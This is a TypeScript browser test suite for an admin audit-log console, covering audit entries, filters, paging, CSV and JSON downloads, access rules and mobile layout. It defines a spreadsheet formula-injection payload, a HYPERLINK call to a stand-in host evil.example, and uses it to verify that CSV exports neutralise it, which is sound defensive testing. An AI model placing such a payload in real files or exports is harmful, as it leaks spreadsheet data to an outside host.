// The audit in the console: who did what, found, read and taken along, in a real browser.
import { readFileSync } from 'node:fs'
import type { Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import { line } from '../src/console/audit/csv.ts'
import { faultsOf } from './support/accessible.ts'
import { enter, overflowOf, screenshot } from './support/chromium.ts'
import { consoleWorld, inChromium, MARKUP, openPerson, soon } from './support/console-world.ts'
import { SUPERUSER, SUPERUSER_PASSWORD } from './support/flowgate.ts'
import { createFlow, createUser, expectStatus, grant } from './support/world.ts'

const world = consoleWorld()
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
let invoices = ''
let expenses = ''

beforeAll(async () => {
  if (!world.gate) return
  const gina = await createUser(world.gate, world.root, 'gina')
  await grant(world.root, gina, 'Admin', 'Global')
  const { body } = await world.ann.get('/api/v1/flows/?paged=all&search=invoices')
  invoices = body.items[0].id
  await world.ann.patch(`/api/v1/flows/${invoices}`, { name: 'Bills', access_type: 'PUBLIC' })
  const share = { user_id: world.bob.userId, role: 'Editor', expires_at: '2999-01-31' }
  const made = await expectStatus(201, world.ann.post(`/api/v1/flows/${invoices}/shares`, share))
  await world.ann.patch(`/api/v1/flows/${invoices}/shares/${made.body.id}`, { role: 'Viewer' })
  expenses = await createFlow(world.ann, FORMULA, world.plans)
  await expectStatus(204, world.ann.delete(`/api/v1/flows/${expenses}`))
})

const asGina = (page: Page, path: string) => enter(page, 'gina', 'gina-password', path)
const entries = (page: Page) => page.locator('.timeline ol > li')
const sentences = (page: Page) => page.locator('.timeline ol > li > div > p').allInnerTexts()

test('a cell that a spreadsheet would run is text, and quotes, commas and lines stay within theirs', () => {
  const dangerous = ['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '＝1']
  for (const text of dangerous) expect(line([text])).toBe(`"'${text}"\r\n`)
  for (const cut of ['\t', '\r']) expect(line([`${cut}=1`])).toBe(`"'${cut}'=1"\r\n`)
  expect(line(['a "b", c\nd', 'Invoices', ''])).toBe('"a ""b"", c\nd","Invoices",""\r\n')
})

inChromium(
  'each entry is a sentence with names that lead to their pages, and what it was before',
  async () => {
    const { page, complaints } = await openPerson(world)
    await asGina(page, `/audit?about=flow:${invoices}`)
    await soon(() => sentences(page)).toEqual([
      'ann changed the flow Bills',
      'ann created the flow Bills',
    ])
    const changed = entries(page).first()
    expect(await changed.locator('ul li').allInnerTexts()).toEqual([
      'Access: PRIVATE → PUBLIC',
      'Name: Invoices → Bills',
    ])
    expect(await changed.getByRole('link', { name: 'Bills' }).getAttribute('href')).toBe(
      `/console/access/flow/${invoices}`,
    )
    expect(await changed.getByRole('link', { name: 'ann' }).getAttribute('href')).toBe(
      `/console/people/${world.ann.userId}`,
    )
    expect(await page.locator('.chips').innerText()).toContain('Only about: Flow Bills')
    await page.getByRole('combobox', { name: 'What' }).selectOption('grant.update')
    await page.getByRole('button', { name: 'No longer: Only about' }).click()
    await soon(() => sentences(page)).toEqual(['ann changed what bob holds on the flow Bills'])
    expect(await entries(page).locator('ul li').allInnerTexts()).toEqual(['Role: Editor → Viewer'])
    expect(complaints).toEqual([])
  },
)

inChromium(
  'what is filtered stands in the address, and the back button and a reload keep it',
  async () => {
    const { page } = await openPerson(world)
    await asGina(page, '/audit')
    await soon(() => entries(page).count()).toBe(50)
    await page.getByRole('combobox', { name: 'Done by' }).fill('ann')
    await page.getByRole('option', { name: 'ann' }).click()
    await soon(() => page.url()).toContain(`person=${world.ann.userId}`)
    await page.getByRole('combobox', { name: 'What' }).selectOption('flow.delete')
    await soon(() => entries(page).count()).toBe(1)
    await page.reload()
    await soon(() => entries(page).count()).toBe(1)
    expect(await page.getByRole('combobox', { name: 'Done by' }).inputValue()).toBe('ann')
    // What is gone is named, and leads nowhere.
    expect(await sentences(page)).toEqual([`ann deleted the flow ${FORMULA}`])
    expect(await entries(page).locator('div a').allInnerTexts()).toEqual(['ann'])
    await page.goBack()
    await soon(() => entries(page).count()).toBe(50)
    await page.getByLabel('Until').fill('2001-01-31')
    await page.getByRole('heading', { name: 'Nothing of this kind was recorded' }).waitFor()
    await page.getByRole('button', { name: 'Clear all filters' }).click()
    await soon(() => entries(page).count()).toBe(50)
    expect(new URL(page.url()).search).toBe('')
  },
)

inChromium('older pages meet without a gap, and a name full of markup is text', async () => {
  const { page } = await openPerson(world)
  await asGina(page, '/audit?kind=flow')
  await soon(() => entries(page).count()).toBe(50)
  const first = await sentences(page)
  await page.getByRole('button', { name: 'Older' }).click()
  await soon(() => sentences(page)).toContain(`ann created the flow ${MARKUP}`)
  const second = await sentences(page)
  // 63 created, one changed, one deleted.
  expect(first.length + second.length).toBe(65)
  expect(new Set([...first, ...second]).size).toBe(65)
  expect(await page.locator('.timeline img, .timeline b').count()).toBe(0)
  await page.goBack()
  await soon(() => sentences(page)).toEqual(first)
})

async function downloaded(page: Page, button: string): Promise<{ name: string; text: string }> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: button }).click(),
  ])
  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') }
}

inChromium(
  'what is filtered is downloaded whole, as CSV that runs nothing and as JSON lines',
  async () => {
    const { page, complaints } = await openPerson(world)
    await asGina(page, '/audit?kind=flow')
    await soon(() => entries(page).count()).toBe(50)
    const csv = await downloaded(page, 'Download as CSV')
    expect(csv.name).toMatch(/^audit-\d{4}-\d\d-\d\d\.csv$/)
    const lines = csv.text.slice(0, -2).split('\r\n')
    expect(lines).toHaveLength(1 + 65)
    expect(lines[0]).toMatch(/^\uFEFF"at","who","what","changes"/)
    expect(lines[1]).toContain(`"ann deleted the flow ${FORMULA.replaceAll('"', '""')}"`)
    expect(lines[1]).toContain(`,"'${FORMULA.replaceAll('"', '""')}",`)
    expect(csv.text).not.toContain(`"${FORMULA.slice(0, 12)}`)
    const json = await downloaded(page, 'Download as JSON lines')
    const items = json.text
      .trim()
      .split('\n')
      .map((text) => JSON.parse(text))
    expect(items).toHaveLength(65)
    expect(items[0]).toMatchObject({ action: 'flow.delete', actor: 'ann', target: FORMULA })
    await soon(() => page.locator('.notice p').innerText()).toBe('65 entries downloaded.')
    expect(complaints).toEqual([])
  },
)

inChromium(
  'a download says how far it is, goes on after a failure where it stopped, and can be given up',
  async () => {
    const { page } = await openPerson(world)
    await asGina(page, '/audit')
    await soon(() => entries(page).count()).toBe(50)
    const { rows } = await world.gate.db.execute('SELECT count(*) AS n FROM flowgate_audit')
    const all = Number(rows[0]?.n)
    const asked: string[] = []
    let isBroken = true
    await page.route('**/api/v1/audit?*size=100*', (route) => {
      asked.push(route.request().url())
      if (isBroken && asked.length > 1) return route.fulfill({ status: 500, body: '{}' })
      return route.continue()
    })
    await page.getByRole('button', { name: 'Download as JSON lines' }).click()
    await page.getByRole('alert').waitFor()
    expect(await page.getByRole('toolbar').innerText()).toContain('100 entries so far, back to')
    isBroken = false
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Try again' }).click(),
    ])
    expect(
      readFileSync(await file.path(), 'utf8')
        .trim()
        .split('\n').length,
    ).toBe(all)
    expect(asked.filter((url) => !url.includes('cursor'))).toHaveLength(1)
    isBroken = true
    await page.getByRole('button', { name: 'Download as CSV' }).click()
    await page.getByRole('alert').waitFor()
    await page.getByRole('button', { name: 'Cancel' }).click()
    await page.getByRole('button', { name: 'Download as CSV' }).waitFor()
    expect(await page.getByRole('alert').count()).toBe(0)
  },
)

inChromium('only admins are led there, and whoever comes all the same is told so', async () => {
  const owner = await openPerson(world)
  await enter(owner.page, 'ann', 'ann-password', '/audit')
  await owner.page.getByRole('heading', { name: 'Only admins see the audit' }).waitFor()
  expect(await owner.page.getByRole('link', { name: 'Audit' }).count()).toBe(0)
  expect(await entries(owner.page).count()).toBe(0)
  const superuser = await openPerson(world)
  await enter(superuser.page, SUPERUSER, SUPERUSER_PASSWORD)
  await superuser.page.getByRole('link', { name: 'Audit' }).click()
  await soon(() => entries(superuser.page).count()).toBe(50)
})

inChromium(
  'on a phone nothing has to be scrolled sideways, and all of it can be read by day and by night',
  async () => {
    const { page } = await openPerson(world, { width: 320, height: 800 })
    await asGina(page, `/audit?about=flow:${invoices}&request=x&person=${world.ann.userId}`)
    await page.getByRole('heading', { name: 'Nothing of this kind' }).waitFor()
    expect(await faultsOf(page)).toEqual([])
    await page.getByRole('button', { name: 'No longer: Request x' }).click()
    await entries(page).first().waitFor()
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme })
      expect(await overflowOf(page)).toBe(0)
      expect(await faultsOf(page)).toEqual([])
      await screenshot(page, `console-audit-320-${colorScheme}`)
      await page.setViewportSize({ width: 1280, height: 900 })
      await page.goto('/console/audit')
      await soon(() => entries(page).count()).toBe(50)
      expect(await faultsOf(page)).toEqual([])
      await screenshot(page, `console-audit-${colorScheme}`)
      await page.goto(`/console/audit?about=flow:${invoices}`)
      await page.setViewportSize({ width: 320, height: 800 })
      await entries(page).first().waitFor()
    }
  },
)
